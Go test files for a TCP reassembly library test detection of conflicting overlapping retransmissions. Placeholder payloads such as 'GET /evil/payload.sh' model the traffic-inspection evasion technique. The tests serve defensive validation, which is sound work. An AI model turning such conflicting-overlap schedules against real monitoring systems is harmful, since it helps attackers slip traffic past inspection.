	f := newFlow(t, a)
	f.handshake()
	base := f.cliSeq
	f.sendClientAt(base, 0, []byte("GET /index.html HTTP"))
	f.sendClientAt(base, 0, []byte("GET /evil/payload.sh"))
	f.cliSeq += 20
	f.closeBoth()

	s := singleSession(t, a)
	if got, want := string(s.ClientData), "GET /index.html HTTP"; got != want {
		t.Errorf("ClientData = %q, want first copy %q", got, want)
	}
	if !s.Ambiguous {
		t.Error("Ambiguous = false; the pre-fix assembler kept this silent")
	}
	if s.OverlapConflicts != 1 {
		t.Errorf("OverlapConflicts = %d, want 1", s.OverlapConflicts)
	}
}

// TestOverlapConflictLastWins: same wire bytes, the other resolution. The
// retained stream flips to the retransmitted copy, and the session is
// flagged just the same — the policy chooses bytes, never silence.
func TestOverlapConflictLastWins(t *testing.T) {
	a := NewAssembler(Config{OverlapPolicy: OverlapLastWins})
	f := newFlow(t, a)
	f.handshake()
	base := f.cliSeq
	f.sendClientAt(base, 0, []byte("GET /index.html HTTP"))
	f.sendClientAt(base, 0, []byte("GET /evil/payload.sh"))
	f.cliSeq += 20
	f.closeBoth()

	s := singleSession(t, a)
	if got, want := string(s.ClientData), "GET /evil/payload.sh"; got != want {
		t.Errorf("ClientData = %q, want retransmitted copy %q", got, want)
	}
	if !s.Ambiguous || s.OverlapConflicts != 1 {
		t.Errorf("Ambiguous=%v OverlapConflicts=%d, want true/1", s.Ambiguous, s.OverlapConflicts)
	}
}

// TestOverlapAgreeingRetransmit: an honest duplicate (same bytes, same
// range) must not taint the session.
func TestOverlapAgreeingRetransmit(t *testing.T) {
	for _, policy := range []OverlapPolicy{OverlapFirstWins, OverlapLastWins} {
		a := NewAssembler(Config{OverlapPolicy: policy})
		f := newFlow(t, a)
		f.handshake()
		base := f.cliSeq
		f.sendClientAt(base, 0, []byte("GET / HTTP/1.1\r\n"))
		f.sendClientAt(base, 0, []byte("GET / HTTP/1.1\r\n"))
		f.cliSeq += 16
		f.closeBoth()

		s := singleSession(t, a)
		if got, want := string(s.ClientData), "GET / HTTP/1.1\r\n"; got != want {
			t.Errorf("%v: ClientData = %q, want %q", policy, got, want)
		}
		if s.Ambiguous || s.OverlapConflicts != 0 {
			t.Errorf("%v: Ambiguous=%v OverlapConflicts=%d for agreeing duplicate",
				policy, s.Ambiguous, s.OverlapConflicts)
		}
	}
}

// TestOverlapConflictingExtension: a retransmit that disagrees on its
// overlapping prefix but carries a genuinely new suffix must flag the
// conflict and still deliver the suffix.
func TestOverlapConflictingExtension(t *testing.T) {
	a := NewAssembler(Config{})
	f := newFlow(t, a)
	f.handshake()
	base := f.cliSeq
	f.sendClientAt(base, 0, []byte("AAAA"))
	f.sendClientAt(base, 0, []byte("BBBBCCCC")) // prefix disagrees, suffix is new
	f.cliSeq += 8
	f.closeBoth()

	s := singleSession(t, a)
	if got, want := string(s.ClientData), "AAAACCCC"; got != want {
		t.Errorf("ClientData = %q, want %q", got, want)
	}
	if !s.Ambiguous || s.OverlapConflicts != 1 {
		t.Errorf("Ambiguous=%v OverlapConflicts=%d, want true/1", s.Ambiguous, s.OverlapConflicts)
	}
}

// TestOverlapConflictPendingDrain drives the conflict through the
// out-of-order pending queue: a buffered future segment is contradicted by
// the in-order bytes that later cover its range.
func TestOverlapConflictPendingDrain(t *testing.T) {
	a := NewAssembler(Config{})
	f := newFlow(t, a)
	f.handshake()
	base := f.cliSeq
	f.sendClientAt(base, 4, []byte("XXXX"))     // buffered: hole at [0,4)
	f.sendClientAt(base, 0, []byte("AAAAYYYY")) // fills the hole and contradicts the pending copy
	f.cliSeq += 8
	f.closeBoth()

	s := singleSession(t, a)
	if got, want := string(s.ClientData), "AAAAYYYY"; got != want {
		t.Errorf("ClientData = %q, want %q", got, want)
	}
	if !s.Ambiguous || s.OverlapConflicts != 1 {
		t.Errorf("Ambiguous=%v OverlapConflicts=%d, want true/1", s.Ambiguous, s.OverlapConflicts)
	}
}

// TestOverlapConflictBothDirections: per-direction counts sum into the
// session total.
func TestOverlapConflictBothDirections(t *testing.T) {
	a := NewAssembler(Config{})
	f := newFlow(t, a)
	f.handshake()
	cbase, sbase := f.cliSeq, f.srvSeq
	f.sendClientAt(cbase, 0, []byte("req-one!"))
	f.sendClientAt(cbase, 0, []byte("req-two!"))
	f.cliSeq += 8
	f.feed(packet.Segment{Src: srv, Dst: cli, Seq: sbase, Ack: f.cliSeq,
		Flags: packet.FlagPSH | packet.FlagACK, Payload: []byte("resp-one")})
	f.feed(packet.Segment{Src: srv, Dst: cli, Seq: sbase, Ack: f.cliSeq,
		Flags: packet.FlagPSH | packet.FlagACK, Payload: []byte("resp-two")})
	f.srvSeq += 8
	f.closeBoth()

	s := singleSession(t, a)
	if s.OverlapConflicts != 2 || !s.Ambiguous {
		t.Errorf("OverlapConflicts=%d Ambiguous=%v, want 2/true", s.OverlapConflicts, s.Ambiguous)
	}
}

func TestParseOverlapPolicy(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want OverlapPolicy
	}{
		{"", OverlapFirstWins},
		{"first-wins", OverlapFirstWins},
		{"first", OverlapFirstWins},
		{"last-wins", OverlapLastWins},
		{"last", OverlapLastWins},
	} {
		got, err := ParseOverlapPolicy(tc.in)
		if err != nil || got != tc.want {
			t.Errorf("ParseOverlapPolicy(%q) = %v, %v; want %v", tc.in, got, err, tc.want)
		}
		if rt, err := ParseOverlapPolicy(got.String()); err != nil || rt != got {
			t.Errorf("round-trip of %v failed: %v, %v", got, rt, err)
		}
	}
	if _, err := ParseOverlapPolicy("both-wins"); err == nil {
		t.Error("ParseOverlapPolicy accepted garbage")
	}
}

// overlapSchedule renders a deterministic capture where one flow plays
// conflicting-overlap games and a second behaves; shared by the parity test
// and the fuzz seeds.
func overlapSchedule(t testing.TB, policySeed int64) []feedEvent {
	t.Helper()
	bld := packet.NewBuilder(policySeed)
	ts := time.Date(2022, 6, 3, 12, 0, 0, 0, time.UTC)
	var events []feedEvent
	emit := func(seg packet.Segment) {
		frame, err := bld.Build(seg)
		if err != nil {
			t.Fatal(err)
		}
		events = append(events, feedEvent{ts: ts, frame: frame})
		ts = ts.Add(7 * time.Millisecond)
	}
	for i := 0; i < 2; i++ {
		c := packet.Endpoint{Addr: packet.MustAddr(fmt.Sprintf("192.0.2.%d", 10+i)), Port: uint16(41000 + i)}
		s := packet.Endpoint{Addr: packet.MustAddr("198.51.100.5"), Port: 8080}
		cseq := uint32(1000 * (i + 1))
		sseq := uint32(9000 * (i + 1))
		emit(packet.Segment{Src: c, Dst: s, Seq: cseq, Flags: packet.FlagSYN})
		emit(packet.Segment{Src: s, Dst: c, Seq: sseq, Ack: cseq + 1, Flags: packet.FlagSYN | packet.FlagACK})
		emit(packet.Segment{Src: c, Dst: s, Seq: cseq + 1, Ack: sseq + 1, Flags: packet.FlagACK})
		base := cseq + 1
		emit(packet.Segment{Src: c, Dst: s, Seq: base, Ack: sseq + 1,
			Flags: packet.FlagPSH | packet.FlagACK, Payload: []byte("GET /innocuous/path!")})
		if i == 0 { // flow 0 retransmits with conflicting bytes
			emit(packet.Segment{Src: c, Dst: s, Seq: base, Ack: sseq + 1,
				Flags: packet.FlagPSH | packet.FlagACK, Payload: []byte("GET /malicious/pay!!")})
		}
		emit(packet.Segment{Src: c, Dst: s, Seq: base + 20, Ack: sseq + 1, Flags: packet.FlagFIN | packet.FlagACK})
		emit(packet.Segment{Src: s, Dst: c, Seq: sseq + 1, Ack: base + 21, Flags: packet.FlagFIN | packet.FlagACK})
	}
	return events
}

// TestOverlapConflictShardedParity: the Ambiguous flag and conflict counts
// must survive the flow-sharded front-end byte-identically — ambiguity is a
// property of the per-flow byte stream, not of the schedule.
func TestOverlapConflictShardedParity(t *testing.T) {
	events := overlapSchedule(t, 11)
	cfg := Config{IdleTimeout: 2 * time.Second}
	want := serialSessions(t, cfg, events)
	ambiguous := 0
	for _, s := range want {
		if s.Ambiguous {
			ambiguous++
		}
	}
	if ambiguous != 1 {
		t.Fatalf("serial reference flagged %d sessions, want 1", ambiguous)
	}
	for _, shards := range []int{1, 3, 8} {
		t.Run(fmt.Sprintf("shards%d", shards), func(t *testing.T) {
			cfg := cfg
			cfg.Shards = shards
			s := NewSharded(cfg, 1)
			feedSharded(t, s.Feeder(0), events)
			s.Feeder(0).Close()
			diffSessions(t, s.Wait(), want)
		})
	}
}

// fuzzOverlapSeeds are the committed FuzzReassemblyOverlap starting
// population: conflicting full retransmit, agreeing duplicate,
// conflicting extension, out-of-order contradiction, tiny-segment sweep.
func fuzzOverlapSeeds() [][]byte {
	return [][]byte{
		{0, 20, 1, 0, 20, 0},
		{0, 20, 1, 0, 20, 1},
		{0, 4, 1, 0, 12, 0},
		{8, 8, 1, 0, 16, 0},
		{0, 1, 1, 1, 1, 0, 2, 1, 1, 3, 1, 0, 4, 1, 1},
		{4, 9, 0, 0, 30, 0, 17, 6, 0},
	}
}

// FuzzReassemblyOverlap throws random segment schedules — including
// conflicting overlaps — at the assembler and cross-checks the serial and
// sharded paths: sessions (data, conflict counts, ambiguity) must be
// byte-identical for every schedule, and a conflict-free schedule must never
// be flagged.
func FuzzReassemblyOverlap(f *testing.F) {
	for _, seed := range fuzzOverlapSeeds() {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 96 {
			data = data[:96]
		}
		const streamLen = 40
		truth := make([]byte, streamLen)
		for i := range truth {
			truth[i] = byte('a' + i%26)
		}
		bld := packet.NewBuilder(1)
		ts := time.Date(2022, 6, 3, 12, 0, 0, 0, time.UTC)
		var events []feedEvent
		emit := func(seg packet.Segment) {
			frame, err := bld.Build(seg)
			if err != nil {
				t.Fatal(err)
			}
			events = append(events, feedEvent{ts: ts, frame: frame})
			ts = ts.Add(3 * time.Millisecond)
		}
		c := packet.Endpoint{Addr: packet.MustAddr("192.0.2.77"), Port: 42424}
		s := packet.Endpoint{Addr: packet.MustAddr("198.51.100.5"), Port: 8080}
		const cseq, sseq = 5000, 7000
		emit(packet.Segment{Src: c, Dst: s, Seq: cseq, Flags: packet.FlagSYN})
		emit(packet.Segment{Src: s, Dst: c, Seq: sseq, Ack: cseq + 1, Flags: packet.FlagSYN | packet.FlagACK})
		emit(packet.Segment{Src: c, Dst: s, Seq: cseq + 1, Ack: sseq + 1, Flags: packet.FlagACK})
		// Each 3-byte opcode is one data segment: offset, length, and whether
		// its bytes contradict the true stream.
		for len(data) >= 3 {
			off := int(data[0]) % streamLen
			n := 1 + int(data[1])%16
			if off+n > streamLen {
				n = streamLen - off
			}
			payload := append([]byte(nil), truth[off:off+n]...)
			if data[2]&1 != 0 {
				for i := range payload {
					payload[i] ^= 0x20
				}
			}
			emit(packet.Segment{Src: c, Dst: s, Seq: cseq + 1 + uint32(off), Ack: sseq + 1,
				Flags: packet.FlagPSH | packet.FlagACK, Payload: payload})
			data = data[3:]
		}
		emit(packet.Segment{Src: c, Dst: s, Seq: cseq + 1 + streamLen, Ack: sseq + 1, Flags: packet.FlagFIN | packet.FlagACK})
		emit(packet.Segment{Src: s, Dst: c, Seq: sseq + 1, Ack: cseq + 2 + streamLen, Flags: packet.FlagFIN | packet.FlagACK})

		for _, policy := range []OverlapPolicy{OverlapFirstWins, OverlapLastWins} {
			cfg := Config{IdleTimeout: time.Minute, OverlapPolicy: policy}
			want := serialSessions(t, cfg, events)
			for _, s := range want {
				if s.Ambiguous != (s.OverlapConflicts > 0) {
					t.Fatalf("%v: Ambiguous=%v with OverlapConflicts=%d", policy, s.Ambiguous, s.OverlapConflicts)
				}
			}
			for _, shards := range []int{1, 3} {
				scfg := cfg
				scfg.Shards = shards
				sh := NewSharded(scfg, 1)
				feedSharded(t, sh.Feeder(0), events)
				sh.Feeder(0).Close()
				diffSessions(t, sh.Wait(), want)
			}
		}
	})
}

// TestRegenFuzzReassemblyOverlapCorpus rewrites the committed seed corpus
// when REGEN_FUZZ_CORPUS is set, keeping files and in-code seeds in sync.
func TestRegenFuzzReassemblyOverlapCorpus(t *testing.T) {
	if !fuzzcorpus.Regen() {
		t.Skip("set REGEN_FUZZ_CORPUS=1 to rewrite the committed corpus")
	}
	fuzzcorpus.Write(t, "FuzzReassemblyOverlap", fuzzOverlapSeeds())
}
