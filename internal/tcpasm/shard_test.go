package tcpasm

import (
	"bytes"
	"fmt"
	"math/rand"
	"reflect"
	"sync"
	"testing"
	"time"

	"repro/internal/packet"
)

// feedEvent is one captured frame with its timestamp.
type feedEvent struct {
	ts    time.Time
	frame []byte
}

// genTraffic builds a deterministic interleaved capture: nFlows scripted
// conversations (handshakes, bidirectional data, out-of-order chunks,
// FIN/RST/abandoned endings) merged onto one non-decreasing timeline. With
// many active flows and tens of milliseconds between events, revisit gaps
// routinely exceed the 2s IdleTimeout the parity tests configure, so the
// Feed-level idle split is exercised organically.
func genTraffic(t testing.TB, seed int64, nFlows int) []feedEvent {
	t.Helper()
	rng := rand.New(rand.NewSource(seed))
	bld := packet.NewBuilder(seed)

	type flowScript struct {
		segs []packet.Segment
		next int
	}
	flows := make([]*flowScript, nFlows)
	for i := range flows {
		c := packet.Endpoint{
			Addr: packet.MustAddr(fmt.Sprintf("192.0.2.%d", 1+rng.Intn(250))),
			Port: uint16(40000 + i),
		}
		s := packet.Endpoint{
			Addr: packet.MustAddr(fmt.Sprintf("198.51.100.%d", 1+rng.Intn(250))),
			Port: []uint16{23, 80, 443, 8080}[rng.Intn(4)],
		}
		cseq := rng.Uint32()
		sseq := rng.Uint32()
		fs := &flowScript{}
		fs.segs = append(fs.segs,
			packet.Segment{Src: c, Dst: s, Seq: cseq, Flags: packet.FlagSYN},
			packet.Segment{Src: s, Dst: c, Seq: sseq, Ack: cseq + 1, Flags: packet.FlagSYN | packet.FlagACK},
			packet.Segment{Src: c, Dst: s, Seq: cseq + 1, Ack: sseq + 1, Flags: packet.FlagACK},
		)
		cseq, sseq = cseq+1, sseq+1

		// Client payload in chunks, occasionally shuffled out of order.
		payload := bytes.Repeat([]byte{byte('a' + i%26)}, 30+rng.Intn(400))
		var chunks []packet.Segment
		for off := 0; off < len(payload); {
			n := 1 + rng.Intn(60)
			if off+n > len(payload) {
				n = len(payload) - off
			}
			chunks = append(chunks, packet.Segment{
				Src: c, Dst: s, Seq: cseq + uint32(off), Ack: sseq,
				Flags: packet.FlagPSH | packet.FlagACK, Payload: payload[off : off+n],
			})
			off += n
		}
		if rng.Intn(3) == 0 {
			rng.Shuffle(len(chunks), func(a, b int) { chunks[a], chunks[b] = chunks[b], chunks[a] })
		}
		fs.segs = append(fs.segs, chunks...)
		cseq += uint32(len(payload))
		if rng.Intn(2) == 0 {
			resp := []byte("ACK\r\n")
			fs.segs = append(fs.segs, packet.Segment{
				Src: s, Dst: c, Seq: sseq, Ack: cseq,
				Flags: packet.FlagPSH | packet.FlagACK, Payload: resp,
			})
			sseq += uint32(len(resp))
		}
		switch rng.Intn(3) {
		case 0: // clean close
			fs.segs = append(fs.segs,
				packet.Segment{Src: c, Dst: s, Seq: cseq, Ack: sseq, Flags: packet.FlagFIN | packet.FlagACK},
				packet.Segment{Src: s, Dst: c, Seq: sseq, Ack: cseq + 1, Flags: packet.FlagFIN | packet.FlagACK},
			)
		case 1: // abort
			fs.segs = append(fs.segs, packet.Segment{Src: c, Dst: s, Seq: cseq, Flags: packet.FlagRST})
		default: // abandoned: idles out or is flushed at end of capture
		}
		flows[i] = fs
	}

	// Merge onto one timeline: pick a random unfinished flow per step.
	var events []feedEvent
	ts := time.Date(2021, 5, 10, 8, 0, 0, 0, time.UTC)
	live := make([]int, 0, nFlows)
	for i := range flows {
		live = append(live, i)
	}
	for len(live) > 0 {
		k := rng.Intn(len(live))
		fs := flows[live[k]]
		frame, err := bld.Build(fs.segs[fs.next])
		if err != nil {
			t.Fatal(err)
		}
		events = append(events, feedEvent{ts: ts, frame: frame})
		ts = ts.Add(time.Duration(20+rng.Intn(120)) * time.Millisecond)
		fs.next++
		if fs.next == len(fs.segs) {
			live = append(live[:k], live[k+1:]...)
		}
	}
	return events
}

// serialSessions is the reference: one Assembler, the serial scan cadence.
func serialSessions(t testing.TB, cfg Config, events []feedEvent) []Session {
	t.Helper()
	a := NewAssembler(cfg)
	for i, ev := range events {
		p, err := packet.Decode(ev.frame)
		if err != nil {
			t.Fatal(err)
		}
		a.Feed(ev.ts, p)
		if (i+1)%advanceEvery == 0 {
			a.Advance(ev.ts)
		}
	}
	a.Flush()
	return a.Sessions()
}

// feedSharded decodes events into pooled items and routes them through f.
func feedSharded(t testing.TB, f *Feeder, events []feedEvent) {
	t.Helper()
	for _, ev := range events {
		it := f.Get()
		it.TS = ev.ts
		it.Buf = append(it.Buf[:0], ev.frame...)
		if err := packet.DecodeInto(&it.Pkt, it.Buf); err != nil {
			t.Error(err)
			f.Recycle(it)
			continue
		}
		f.Feed(it)
	}
}

func diffSessions(t *testing.T, got, want []Session) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("got %d sessions, want %d", len(got), len(want))
	}
	for i := range got {
		if !reflect.DeepEqual(got[i], want[i]) {
			t.Fatalf("session %d differs:\n got %+v\nwant %+v", i, got[i], want[i])
		}
	}
}

// TestShardedParity: for every shard count and seed, the sharded batch scan
// must emit byte-identical sessions in identical order to the serial path.
func TestShardedParity(t *testing.T) {
	for _, seed := range []int64{1, 2, 3} {
		events := genTraffic(t, seed, 40)
		cfg := Config{IdleTimeout: 2 * time.Second}
		want := serialSessions(t, cfg, events)
		if len(want) < 40 {
			t.Fatalf("seed %d: weak test input, only %d sessions", seed, len(want))
		}
		for _, shards := range []int{1, 3, 8} {
			t.Run(fmt.Sprintf("seed%d_shards%d", seed, shards), func(t *testing.T) {
				cfg := cfg
				cfg.Shards = shards
				s := NewSharded(cfg, 1)
				feedSharded(t, s.Feeder(0), events)
				s.Feeder(0).Close()
				diffSessions(t, s.Wait(), want)
			})
		}
	}
}

// TestShardedParityMultiFeeder splits the capture into time-ordered chunks
// fed concurrently by one feeder each, mimicking the multi-segment pcap
// fan-out. Flows spanning chunk boundaries must still reassemble exactly as
// in the serial scan.
func TestShardedParityMultiFeeder(t *testing.T) {
	events := genTraffic(t, 7, 48)
	cfg := Config{IdleTimeout: 2 * time.Second, Shards: 4}
	want := serialSessions(t, cfg, events)

	for _, feeders := range []int{2, 3, 5} {
		t.Run(fmt.Sprintf("feeders%d", feeders), func(t *testing.T) {
			s := NewSharded(cfg, feeders)
			chunk := (len(events) + feeders - 1) / feeders
			var wg sync.WaitGroup
			for i := 0; i < feeders; i++ {
				lo := i * chunk
				hi := lo + chunk
				if hi > len(events) {
					hi = len(events)
				}
				wg.Add(1)
				go func(f *Feeder, evs []feedEvent) {
					defer wg.Done()
					feedSharded(t, f, evs)
					f.Close()
				}(s.Feeder(i), events[lo:hi])
			}
			wg.Wait()
			diffSessions(t, s.Wait(), want)
		})
	}
}

// TestShardedStreamingBarriers interleaves Drain and FlushSessions with
// feeding — the ingest pipeline's cadence — and checks every batch against
// the serial assembler draining at the same points.
func TestShardedStreamingBarriers(t *testing.T) {
	events := genTraffic(t, 11, 32)
	cfg := Config{IdleTimeout: 2 * time.Second, Shards: 3}

	ref := NewAssembler(cfg)
	s := NewSharded(cfg, 1)
	f := s.Feeder(0)
	const batch = 150
	for lo := 0; lo < len(events); lo += batch {
		hi := lo + batch
		if hi > len(events) {
			hi = len(events)
		}
		for _, ev := range events[lo:hi] {
			p, err := packet.Decode(ev.frame)
			if err != nil {
				t.Fatal(err)
			}
			ref.Feed(ev.ts, p)
		}
		feedSharded(t, f, events[lo:hi])
		now := events[hi-1].ts
		want := ref.Drain(now)
		got := s.Drain(now)
		diffSessions(t, got, want)
	}
	ref.Flush()
	diffSessions(t, s.FlushSessions(), ref.Sessions())
	f.Close()
	if leftover := s.Wait(); len(leftover) != 0 {
		t.Fatalf("sessions after final flush: %d", len(leftover))
	}
}

// TestShardedStatsAndRace hammers the sharded assembler from several feeders
// while polling the monitoring surface from another goroutine; run with
// -race this doubles as the concurrency soundness check.
func TestShardedStatsAndRace(t *testing.T) {
	events := genTraffic(t, 5, 64)
	cfg := Config{IdleTimeout: 2 * time.Second, Shards: 4}
	s := NewSharded(cfg, 4)

	stop := make(chan struct{})
	var poller sync.WaitGroup
	poller.Add(1)
	go func() {
		defer poller.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			for _, st := range s.ShardStats() {
				if st.Queued < 0 {
					t.Errorf("shard %d: negative queue depth %d", st.Shard, st.Queued)
					return
				}
			}
			_ = s.OpenConns()
		}
	}()

	var wg sync.WaitGroup
	chunk := (len(events) + 3) / 4
	for i := 0; i < 4; i++ {
		lo := i * chunk
		hi := lo + chunk
		if hi > len(events) {
			hi = len(events)
		}
		wg.Add(1)
		go func(f *Feeder, evs []feedEvent) {
			defer wg.Done()
			feedSharded(t, f, evs)
			f.Close()
		}(s.Feeder(i), events[lo:hi])
	}
	wg.Wait()
	got := s.Wait()
	close(stop)
	poller.Wait()

	var applied uint64
	for _, st := range s.ShardStats() {
		if st.Queued != 0 || st.OpenConns != 0 {
			t.Errorf("shard %d not drained: %+v", st.Shard, st)
		}
		applied += st.Packets
	}
	if applied != uint64(len(events)) {
		t.Errorf("applied %d packets, want %d", applied, len(events))
	}
	if len(got) == 0 {
		t.Error("no sessions out")
	}
}

// TestShardOfStable pins the flow→shard mapping properties: affinity for
// both directions of a flow and full use of the shard space.
func TestShardOfStable(t *testing.T) {
	used := make(map[int]bool)
	for i := 0; i < 256; i++ {
		c := packet.Endpoint{Addr: packet.MustAddr(fmt.Sprintf("10.0.%d.%d", i/16, i%16+1)), Port: uint16(1024 + i)}
		s := packet.Endpoint{Addr: packet.MustAddr("203.0.113.9"), Port: 80}
		fwd := packet.Flow{Src: c, Dst: s}.Canonical()
		rev := packet.Flow{Src: s, Dst: c}.Canonical()
		a, b := shardOf(fwd, 8), shardOf(rev, 8)
		if a != b {
			t.Fatalf("flow %v: directions map to shards %d and %d", c, a, b)
		}
		used[a] = true
	}
	if len(used) != 8 {
		t.Errorf("256 flows hit only %d of 8 shards", len(used))
	}
}

// BenchmarkAssemblerFeed compares the serial assembler against the sharded
// front-end over the same pre-built capture.
func BenchmarkAssemblerFeed(b *testing.B) {
	events := genTraffic(b, 42, 64)
	var total int64
	for _, ev := range events {
		total += int64(len(ev.frame))
	}

	b.Run("serial", func(b *testing.B) {
		b.SetBytes(total)
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			a := NewAssembler(Config{})
			var p packet.Packet
			for _, ev := range events {
				if err := packet.DecodeInto(&p, ev.frame); err != nil {
					b.Fatal(err)
				}
				a.Feed(ev.ts, &p)
			}
			a.Flush()
			if len(a.Sessions()) == 0 {
				b.Fatal("no sessions")
			}
		}
	})
	for _, shards := range []int{2, 4} {
		b.Run(fmt.Sprintf("sharded%d", shards), func(b *testing.B) {
			b.SetBytes(total)
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				s := NewSharded(Config{Shards: shards}, 1)
				f := s.Feeder(0)
				for _, ev := range events {
					it := f.Get()
					it.TS = ev.ts
					it.Buf = append(it.Buf[:0], ev.frame...)
					if err := packet.DecodeInto(&it.Pkt, it.Buf); err != nil {
						b.Fatal(err)
					}
					f.Feed(it)
				}
				f.Close()
				if len(s.Wait()) == 0 {
					b.Fatal("no sessions")
				}
			}
		})
	}
}

// edgeFlow scripts one connection for the edge-case parity tests below:
// handshake, then the given data segments, with per-segment time offsets so
// a test can place an idle gap mid-flow.
type edgeStep struct {
	seg packet.Segment
	dt  time.Duration // delay before this segment
}

// buildEdgeEvents merges per-flow scripts onto one non-decreasing timeline,
// emitting each flow's next step round-robin so connections interleave (and
// therefore spread across shards) the way a real capture does.
func buildEdgeEvents(t *testing.T, bld *packet.Builder, flows [][]edgeStep) []feedEvent {
	t.Helper()
	ts := time.Date(2021, 5, 10, 9, 0, 0, 0, time.UTC)
	next := make([]int, len(flows))
	var events []feedEvent
	for {
		emitted := false
		for i, fs := range flows {
			if next[i] >= len(fs) {
				continue
			}
			st := fs[next[i]]
			next[i]++
			emitted = true
			ts = ts.Add(st.dt)
			frame, err := bld.Build(st.seg)
			if err != nil {
				t.Fatal(err)
			}
			events = append(events, feedEvent{ts: ts, frame: frame})
		}
		if !emitted {
			return events
		}
	}
}

// edgeParity checks sharded output against the serial assembler for several
// shard counts and returns the serial sessions for content assertions.
func edgeParity(t *testing.T, cfg Config, events []feedEvent) []Session {
	t.Helper()
	want := serialSessions(t, cfg, events)
	for _, shards := range []int{1, 2, 4, 8} {
		scfg := cfg
		scfg.Shards = shards
		s := NewSharded(scfg, 1)
		feedSharded(t, s.Feeder(0), events)
		s.Feeder(0).Close()
		got := s.Wait()
		if len(got) != len(want) {
			t.Fatalf("shards=%d: got %d sessions, want %d", shards, len(got), len(want))
		}
		for i := range got {
			if !reflect.DeepEqual(got[i], want[i]) {
				t.Fatalf("shards=%d: session %d differs:\n got %+v\nwant %+v", shards, i, got[i], want[i])
			}
		}
	}
	return want
}

// TestShardedZeroLengthPayloads: pure ACKs, zero-payload PSH frames, and
// keepalive-style probes carry no stream bytes; they must not perturb
// reassembly on either path, and the sharded output must stay identical.
func TestShardedZeroLengthPayloads(t *testing.T) {
	bld := packet.NewBuilder(21)
	var flows [][]edgeStep
	for i := 0; i < 6; i++ {
		c := packet.Endpoint{Addr: packet.MustAddr(fmt.Sprintf("192.0.2.%d", 10+i)), Port: uint16(41000 + i)}
		s := packet.Endpoint{Addr: packet.MustAddr("198.51.100.7"), Port: 23}
		cseq, sseq := uint32(1000*i+1), uint32(7777*(i+1))
		data := bytes.Repeat([]byte{byte('a' + i)}, 64)
		step := func(seg packet.Segment) edgeStep { return edgeStep{seg: seg, dt: 15 * time.Millisecond} }
		flows = append(flows, []edgeStep{
			step(packet.Segment{Src: c, Dst: s, Seq: cseq, Flags: packet.FlagSYN}),
			step(packet.Segment{Src: s, Dst: c, Seq: sseq, Ack: cseq + 1, Flags: packet.FlagSYN | packet.FlagACK}),
			step(packet.Segment{Src: c, Dst: s, Seq: cseq + 1, Ack: sseq + 1, Flags: packet.FlagACK}),
			// Zero-length PSH|ACK before any data.
			step(packet.Segment{Src: c, Dst: s, Seq: cseq + 1, Ack: sseq + 1, Flags: packet.FlagPSH | packet.FlagACK}),
			step(packet.Segment{Src: c, Dst: s, Seq: cseq + 1, Ack: sseq + 1, Flags: packet.FlagPSH | packet.FlagACK, Payload: data[:32]}),
			// Pure ACK from the server mid-stream.
			step(packet.Segment{Src: s, Dst: c, Seq: sseq + 1, Ack: cseq + 33, Flags: packet.FlagACK}),
			// Keepalive-style zero-length probe one byte below the next seq.
			step(packet.Segment{Src: c, Dst: s, Seq: cseq + 32, Ack: sseq + 1, Flags: packet.FlagACK}),
			step(packet.Segment{Src: c, Dst: s, Seq: cseq + 33, Ack: sseq + 1, Flags: packet.FlagPSH | packet.FlagACK, Payload: data[32:]}),
			step(packet.Segment{Src: c, Dst: s, Seq: cseq + 65, Ack: sseq + 1, Flags: packet.FlagFIN | packet.FlagACK}),
			step(packet.Segment{Src: s, Dst: c, Seq: sseq + 1, Ack: cseq + 66, Flags: packet.FlagFIN | packet.FlagACK}),
		})
	}
	events := buildEdgeEvents(t, bld, flows)
	sessions := edgeParity(t, Config{IdleTimeout: 2 * time.Second}, events)
	if len(sessions) != 6 {
		t.Fatalf("got %d sessions, want 6", len(sessions))
	}
	for _, ses := range sessions {
		if len(ses.ClientData) != 64 {
			t.Fatalf("session %v->%v reassembled %d client bytes, want 64", ses.Client, ses.Server, len(ses.ClientData))
		}
	}
}

// TestShardedOverlappingRetransmits: exact duplicates, a retransmit
// straddling old and new bytes, and a fully contained resend must reassemble
// to the stream's bytes exactly once — identically on both paths.
func TestShardedOverlappingRetransmits(t *testing.T) {
	bld := packet.NewBuilder(22)
	var flows [][]edgeStep
	for i := 0; i < 5; i++ {
		c := packet.Endpoint{Addr: packet.MustAddr(fmt.Sprintf("192.0.2.%d", 50+i)), Port: uint16(42000 + i)}
		s := packet.Endpoint{Addr: packet.MustAddr("198.51.100.8"), Port: 80}
		cseq, sseq := uint32(2000*i+5), uint32(911*(i+1))
		payload := make([]byte, 200)
		for j := range payload {
			payload[j] = byte(i*31 + j)
		}
		step := func(seg packet.Segment) edgeStep { return edgeStep{seg: seg, dt: 10 * time.Millisecond} }
		seg := func(off, n int) packet.Segment {
			return packet.Segment{
				Src: c, Dst: s, Seq: cseq + 1 + uint32(off), Ack: sseq + 1,
				Flags: packet.FlagPSH | packet.FlagACK, Payload: payload[off : off+n],
			}
		}
		flows = append(flows, []edgeStep{
			step(packet.Segment{Src: c, Dst: s, Seq: cseq, Flags: packet.FlagSYN}),
			step(packet.Segment{Src: s, Dst: c, Seq: sseq, Ack: cseq + 1, Flags: packet.FlagSYN | packet.FlagACK}),
			step(packet.Segment{Src: c, Dst: s, Seq: cseq + 1, Ack: sseq + 1, Flags: packet.FlagACK}),
			step(seg(0, 100)),  // [0,100)
			step(seg(0, 100)),  // exact retransmit
			step(seg(50, 100)), // [50,150): half old, half new
			step(seg(60, 20)),  // [60,80): fully contained resend
			step(seg(150, 50)), // [150,200)
			step(packet.Segment{Src: c, Dst: s, Seq: cseq + 201, Ack: sseq + 1, Flags: packet.FlagFIN | packet.FlagACK}),
			step(packet.Segment{Src: s, Dst: c, Seq: sseq + 1, Ack: cseq + 202, Flags: packet.FlagFIN | packet.FlagACK}),
		})
	}
	events := buildEdgeEvents(t, bld, flows)
	sessions := edgeParity(t, Config{IdleTimeout: 2 * time.Second}, events)
	if len(sessions) != 5 {
		t.Fatalf("got %d sessions, want 5", len(sessions))
	}
	for i, ses := range sessions {
		if len(ses.ClientData) != 200 {
			t.Fatalf("session %d reassembled %d client bytes, want 200", i, len(ses.ClientData))
		}
	}
}

